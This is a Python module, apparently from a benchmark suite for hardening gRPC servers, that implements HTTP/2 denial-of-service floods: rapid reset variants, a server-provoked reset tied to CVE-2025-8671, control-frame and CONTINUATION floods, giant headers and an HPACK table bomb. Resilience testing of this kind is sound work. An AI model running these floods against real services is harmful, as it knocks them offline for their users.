"""Attacks by quantity: frames that are cheap to send, over and over, for as long as it goes on."""

from __future__ import annotations

import asyncio
import contextlib
import functools
import time
from collections.abc import Awaitable, Callable, Iterator

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    ExtensionFrame,
    Frame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from benchmarks.hostile.grpc_case import STREAM
from benchmarks.hostile.grpc_framing import HEADERS, frame, good
from benchmarks.hostile.http2_wire import Seen, Wire, block, body, head

Address = tuple[str, int]
Attack = Callable[[Address, Seen, float], Awaitable[None]]

_BLOCK = block(HEADERS)
STREAM_BLOCK = block([(n, STREAM.encode() if n == b":path" else v) for n, v in HEADERS])
_MESSAGE = frame(good())
_LAST_STREAM = 2**31 - 1
_AT_ONCE = 100  # streams in one write


def joined(*frames: Frame) -> bytes:
    """Frames as bytes."""
    return b"".join(frame.serialize() for frame in frames)


async def _over_and_over(
    address: Address, seen: Seen, until: float, flood: Callable[[Wire], Awaitable[None]]
) -> None:
    """Flood a connection until it is cut, and then the next."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError, TimeoutError):
            wire = await Wire.open(address, seen)
            try:
                async with asyncio.timeout(max(until - time.monotonic(), 0.01)):
                    await flood(wire)
            finally:
                await wire.close()


def _same(data: bytes) -> Attack:
    """The same bytes without end."""
    many = data * max(1, 16384 // len(data))

    async def attack(address: Address, seen: Seen, until: float) -> None:
        async def flood(wire: Wire) -> None:
            while True:
                await wire.send(many)

        await _over_and_over(address, seen, until, flood)

    return attack


def _streams(make: Callable[[int], bytes]) -> Attack:
    """A new stream, over and over."""

    async def attack(address: Address, seen: Seen, until: float) -> None:
        async def flood(wire: Wire) -> None:
            for chunk in _chunks(make):
                await wire.send(chunk)

        await _over_and_over(address, seen, until, flood)

    return attack


def _chunks(make: Callable[[int], bytes]) -> Iterator[bytes]:
    step = 2 * _AT_ONCE
    for first in range(1, _LAST_STREAM, step):
        yield b"".join(make(stream) for stream in range(first, first + step, 2))


def _on_one_call(data: bytes, first: bytes = b"") -> Attack:
    """The same bytes without end, on a call that was begun and never ends."""
    many = data * max(1, 16384 // len(data))

    async def attack(address: Address, seen: Seen, until: float) -> None:
        async def flood(wire: Wire) -> None:
            await wire.send(first or joined(head(1, _BLOCK)))
            while True:
                await wire.send(many)

        await _over_and_over(address, seen, until, flood)

    return attack


def _reset(stream: int) -> bytes:
    return joined(head(stream, _BLOCK), RstStreamFrame(stream, 8))


def _begun_and_reset(stream: int) -> bytes:
    return joined(head(stream, _BLOCK), body(stream, _MESSAGE), RstStreamFrame(stream, 8))


def _stream_and_reset(stream: int) -> bytes:
    """A stream of three messages, and gone before their answers."""
    return joined(
        head(stream, STREAM_BLOCK),
        body(stream, _MESSAGE * 3, ends=False),
        RstStreamFrame(stream, 8),
    )


def _make_you_reset(stream: int) -> bytes:
    """A whole call, and then an error that makes the server reset the stream (CVE-2025-8671)."""
    nothing = WindowUpdateFrame(stream, 1).serialize()[:-4] + bytes(4)
    return joined(head(stream, _BLOCK), body(stream, _MESSAGE)) + nothing


@functools.cache
def _giant_block() -> bytes:
    return block((*HEADERS, (b"x-a", b"a" * 80_000)))


def _giant(stream: int) -> bytes:
    data = _giant_block()
    pieces = [data[i : i + 16_000] for i in range(0, len(data), 16_000)]
    middle = [ContinuationFrame(stream, piece) for piece in pieces[1:-1]]
    last = ContinuationFrame(stream, pieces[-1], flags=["END_HEADERS"])
    return joined(head(stream, pieces[0], whole=False), *middle, last)


def _bomb(stream: int) -> bytes:
    """The first call puts 3,900 bytes into the header table, each other names it 8,000 times."""
    hidden = bytes(Encoder().encode([(name, value, True) for name, value in HEADERS]))
    if stream == 1:
        return head(stream, hidden + block(((b"x-a", b"a" * 3900),)), ends=True).serialize()
    newest = b"\xbe"  # index 62, the first of the table's changing part
    return head(stream, hidden + newest * 8000, ends=True).serialize()


FLOODS: dict[str, Attack] = {
    "rapid reset": _streams(_reset),
    "rapid reset of whole calls": _streams(_begun_and_reset),
    "rapid reset of streams": _streams(_stream_and_reset),
    "resets that the server is made to send": _streams(_make_you_reset),
    "calls without end of whole bodies": _streams(
        lambda stream: joined(head(stream, _BLOCK), body(stream, _MESSAGE))
    ),
    "SETTINGS flood": _same(SettingsFrame(0, settings={4: 65535}).serialize()),
    "SETTINGS flood, table sizes": _same(
        joined(SettingsFrame(0, settings={1: 0}), SettingsFrame(0, settings={1: 65536}))
    ),
    "SETTINGS ACK flood": _same(SettingsFrame(0, flags=["ACK"]).serialize()),
    "PING flood": _same(PingFrame(0, b"pingpong").serialize()),
    "PING ACK flood": _same(PingFrame(0, b"pingpong", flags=["ACK"]).serialize()),
    "PRIORITY flood": _same(
        joined(*(PriorityFrame(s, depends_on=s + 2, stream_weight=7) for s in range(1, 401, 2)))
    ),
    "WINDOW_UPDATE flood": _on_one_call(
        joined(WindowUpdateFrame(0, 1), WindowUpdateFrame(1, 1)),
    ),
    "unknown frames flood": _same(ExtensionFrame(0xFA, stream_id=0, body=b"x" * 8).serialize()),
    "empty DATA flood": _on_one_call(body(1, b"", ends=False).serialize()),
    "CONTINUATION flood": _on_one_call(
        ContinuationFrame(1, block(((b"x-a", b"a" * 1000),))).serialize(),
        head(1, _BLOCK, whole=False).serialize(),
    ),
    "empty CONTINUATION flood": _on_one_call(
        ContinuationFrame(1, b"").serialize(), head(1, _BLOCK, whole=False).serialize()
    ),
    "giant headers, 80 kB a call": _streams(_giant),
    "header table bomb, 31 MB a call": _streams(_bomb),
    "RST_STREAM of closed streams": _on_one_call(
        RstStreamFrame(1, 8).serialize(), joined(head(1, _BLOCK), RstStreamFrame(1, 8))
    ),
}
